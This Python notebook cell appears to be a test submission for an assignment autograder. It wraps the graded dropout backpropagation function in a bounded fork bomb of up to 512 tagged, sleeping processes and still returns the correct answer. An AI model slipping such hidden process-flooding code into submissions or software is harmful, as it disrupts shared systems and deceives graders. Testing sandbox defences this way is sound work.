# The classic bomb, every process forking again, cut off after nine doublings (at most 512
# processes), each then sleeping under its own name. Started inside a graded function, from a
# child of its own (so the call's time limit does not count the forks on a loaded machine), and
# the function then returns the right answer.
# assignment: dropout

# %%
import ctypes
import os
import time

_real_backward = backward_propagation_with_dropout
_bombed = []


def backward_propagation_with_dropout(X, Y, cache, keep_prob):
    if not _bombed:
        _bombed.append(1)
        me = os.getpid()
        if os.fork() == 0:
            me = None  # the bomb's first process: it and all it forks sleep below
        for _ in range(9 if me is None else 0):
            try:
                os.fork()
            except OSError:
                pass
        if os.getpid() != me:
            ctypes.CDLL(None).prctl(15, b"@TAG@", 0, 0, 0)
            time.sleep(120)
            os._exit(0)
    return _real_backward(X, Y, cache, keep_prob)

